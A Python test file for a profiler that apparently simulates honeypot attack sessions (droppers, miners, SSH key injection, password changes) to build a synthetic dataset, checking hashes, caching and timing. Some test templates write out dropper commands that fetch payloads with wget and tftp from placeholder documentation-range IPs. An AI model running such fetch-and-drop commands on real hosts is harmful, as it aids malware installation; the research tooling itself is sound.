"""Tests for the script profiler (one shell run per script shape)."""

import gc
import string
import types

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import repro
from repro.agents import scripts
from repro.agents.scripts import ScriptKind, ScriptTemplate, build_script
from repro.obs import use_metrics
from repro.workload.config import ScenarioConfig
from repro.workload.script_runner import ScriptRunner
from tests.test_golden_digests import GOLDEN


@pytest.fixture(scope="module")
def runner():
    return ScriptRunner()


class TestProfiles:
    def test_recon_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.RECON, token="r1"))
        assert profile.commands
        assert profile.hashes == ()
        assert profile.uris == ()
        assert profile.exec_seconds > 0

    def test_key_inject_one_hash(self, runner):
        profile = runner.profile(build_script(ScriptKind.KEY_INJECT, token="K1"))
        assert len(profile.hashes) == 1
        assert profile.primary_hash == profile.hashes[0]
        assert profile.uris == ()

    def test_key_inject_token_specific_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KA"))
        b = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KB"))
        assert a.hashes != b.hashes

    def test_dropper_profile(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D1", dropper_host="198.51.100.77")
        )
        assert profile.uris  # remote fetch recorded
        assert len(set(profile.hashes)) == 1  # one campaign binary hash
        assert profile.download_seconds > 0
        # Downloads lengthen the session (timeout-reset behaviour).
        assert profile.exec_seconds > len(build_script(
            ScriptKind.DROPPER, token="D1").lines) * 2.5 - 1e-6

    def test_dropper_fallback_transports_share_hash(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D2", dropper_host="198.51.100.78")
        )
        # wget and the tftp fallback both fire; the payload hash is shared.
        assert len(set(profile.hashes)) == 1

    def test_chpasswd_token_specific_shadow(self, runner):
        a = runner.profile(build_script(ScriptKind.CHPASSWD, token="CA"))
        b = runner.profile(build_script(ScriptKind.CHPASSWD, token="CB"))
        assert a.hashes and b.hashes
        assert set(a.hashes).isdisjoint(b.hashes)

    def test_file_token_singleton_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-1"))
        b = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-2"))
        assert len(a.hashes) == 1
        assert a.hashes != b.hashes

    def test_miner_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.MINER, token="M1"))
        assert profile.uris
        assert profile.hashes

    def test_repeat_profile_equals_the_first_without_a_shell_run(self):
        runner = ScriptRunner()
        t = build_script(ScriptKind.RECON, token="again")
        first = runner.profile(t)
        with use_metrics() as metrics:
            assert runner.profile(t) == first
        assert metrics.counter("script.shell_runs") == 0
        assert metrics.counter("script.shape_hits") == 1

    def test_deterministic_across_runners(self):
        a = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        b = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        assert a.hashes == b.hashes
        assert a.commands == b.commands


def _reachable_bytes(root):
    """Every ``bytes`` object reachable from ``root`` (types and modules
    are not followed: they lead to the whole interpreter)."""
    found, seen, stack = [], set(), [root]
    while stack:
        obj = stack.pop()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, bytes):
            found.append(obj)
        elif not isinstance(obj, (str, type, types.ModuleType,
                                  types.FunctionType)):
            stack.extend(gc.get_referents(obj))
    return found


#: Payload server shared by the campaigns below.
HOST = "198.51.100.66"


def _campaign_scripts(n=50):
    """``n`` dropper and miner scripts served from one host."""
    return [
        build_script(ScriptKind.DROPPER if i % 2 else ScriptKind.MINER,
                     token=f"c{i}", dropper_host=HOST)
        for i in range(n)
    ]


class TestPayloadLifetime:
    def test_runner_keeps_no_payload_bytes(self):
        runner = ScriptRunner()
        for template in _campaign_scripts(4):
            assert template.payload is not None
            runner.profile(template)
        assert _reachable_bytes(runner) == []

    @pytest.mark.parametrize("target", [
        build_script(ScriptKind.DROPPER, token="c7", dropper_host=HOST),
        build_script(ScriptKind.MINER, token="c8", dropper_host=HOST),
        # No payload of its own, but it fetches what campaign c3 serves:
        # it must get the resolver's default bytes, not c3's binary.
        ScriptTemplate(kind=ScriptKind.FILELESS, token="probe", lines=[
            f"cd /tmp; wget http://{HOST}/bins/arm7.c3",
            f"tftp -g -r c4.sh {HOST}",
        ]),
    ], ids=["dropper", "miner", "peer-uri"])
    def test_profile_is_independent_of_earlier_profiles(self, target):
        first = ScriptRunner().profile(target)
        runner = ScriptRunner()
        for template in _campaign_scripts(50):
            runner.profile(template)
        assert runner.profile(target) == first


def full_run(template):
    """``template``'s profile from a fresh shell run of its own lines."""
    return ScriptRunner()._run(template)


#: Tokens the shape path must not confuse with fixed text: each occurs
#: in some script's lines or in the shell's paths and output.
FIXED_TEXT_TOKENS = ["tmp", "bin", "1", "7", "777", "sh", "bins", "xm",
                     "ssh", "var", "root", "arm7", "busybox", "x"]

#: Printable text, for fills the shell could tell from a placeholder (a
#: space, a quote, a leading dash).
_JUNK = st.text(string.printable, max_size=8)
_TOKENS = st.one_of(
    st.sampled_from(FIXED_TEXT_TOKENS + [""]),
    st.text(string.ascii_letters + string.digits + "._-", max_size=14),
    _JUNK,
)
_HOSTS = st.one_of(
    st.sampled_from(["", "198.51.100.7", "203.0.113.10", "1", "tmp"]),
    st.integers(0, 255).map(lambda n: f"198.51.100.{n}"),
    _JUNK,
)


def _hand_built(token, host):
    """Templates written outside ``build_script``: a fetch whose URI holds
    the token but that no payload is registered under, and files whose
    hashes can coincide once filled (``echo x`` against the token ``x``)."""
    T, H = scripts.TOKEN, scripts.HOST
    fills = ((T, token), (H, host))
    return [
        # Like the peer-uri probe: the resolver's default bytes follow
        # the URI, so the hash is not a substitution of the token.
        ScriptTemplate.filled(ScriptKind.FILELESS, token, [
            f"cd /tmp; wget http://{H}/bins/arm7.{T}",
            f"tftp -g -r {T}.sh {H}",
        ], fills),
        ScriptTemplate.filled(ScriptKind.FILE_TOKEN, token, [
            f"echo {T} > /tmp/a; echo x > /tmp/b",
            f"echo {T} >> /tmp/b; cat /proc/cpuinfo > /tmp/c",
            f"echo http://{H}/x http://198.51.100.7/x",
            "exit",
            f"echo {T} > /tmp/never",
        ], fills),
    ]


def _outcome(profile, template):
    """The fields of ``profile(template)`` that a session row uses (junk
    such as `> /tmp` makes the shell write onto a directory, which fails
    that command alone on either path)."""
    p = profile(template)
    return (p.commands, p.uris, p.hashes, p.exec_seconds, p.download_seconds)


class TestShapeEquivalence:
    """A profile filled in from a shape equals a full run of the script."""

    @settings(max_examples=300, deadline=None)
    @given(kind=st.sampled_from(list(ScriptKind)), first=_TOKENS,
           token=_TOKENS, first_host=_HOSTS, host=_HOSTS)
    def test_every_kind_matches_a_full_run(self, kind, first, token,
                                           first_host, host):
        runner = ScriptRunner()
        _outcome(runner.profile,
                 build_script(kind, token=first, dropper_host=first_host))
        template = build_script(kind, token=token, dropper_host=host)
        assert (_outcome(runner.profile, template)
                == _outcome(full_run, template))

    @settings(max_examples=100, deadline=None)
    @given(first=_TOKENS, token=_TOKENS, first_host=_HOSTS, host=_HOSTS)
    def test_hand_built_templates_match_a_full_run(self, first, token,
                                                   first_host, host):
        runner = ScriptRunner()
        for template in _hand_built(first, first_host):
            _outcome(runner.profile, template)
        for template in _hand_built(token, host):
            assert (_outcome(runner.profile, template)
                    == _outcome(full_run, template))

    @pytest.mark.parametrize("kind", [
        ScriptKind.KEY_INJECT, ScriptKind.DROPPER, ScriptKind.MINER,
        ScriptKind.FILE_TOKEN])
    def test_one_shell_run_per_shape(self, kind):
        # Same-length tokens and several hosts: one shape per kind.
        with use_metrics() as metrics:
            runner = ScriptRunner()
            for i in range(10, 30):
                runner.profile(build_script(
                    kind, token=f"c{i}", dropper_host=f"198.51.100.{i}"))
        assert metrics.counter("script.shell_runs") == 1
        assert metrics.counter("script.shape_hits") == 19

    def test_unsubstitutable_scripts_run_in_full(self):
        with use_metrics() as metrics:
            runner = ScriptRunner()
            for i in range(10, 15):
                runner.profile(build_script(ScriptKind.CHPASSWD, token=f"c{i}"))
                runner.profile(_hand_built(f"c{i}", HOST)[0])
        assert metrics.counter("script.shell_runs") == 11  # + 1 shape run
        assert metrics.counter("script.shape_hits") == 0


def test_generated_store_matches_full_runs(monkeypatch):
    """Generate the gen-10k-w1 store, checking every profile (most of
    them filled in from a shape) against a full shell run of its script."""
    import repro.workload.shards as shards

    checked, mismatches = [], []
    profile_uncached = ScriptRunner._profile

    def cross_checked(runner, template):
        profile = profile_uncached(runner, template)
        checked.append(template.token)
        if profile != full_run(template):
            mismatches.append(template.token)
        return profile

    monkeypatch.setattr(ScriptRunner, "_profile", cross_checked)
    monkeypatch.setattr(shards, "_PLAN", None)
    config = ScenarioConfig.from_denominator(40000, seed=2023)
    with use_metrics() as metrics:
        dataset = repro.generate(config, backend="inline", workers=1)
    assert mismatches == []
    assert len(checked) > 300
    assert dataset.store.content_digest() == GOLDEN[(40000, 2023, 0.002)]
    # The cross-check's own runs count too; without them the parent
    # needed 343 runs here and the shape path needs 29.
    assert metrics.counter("script.shell_runs") - len(checked) <= 40
    assert metrics.counter("script.shape_hits") > 0
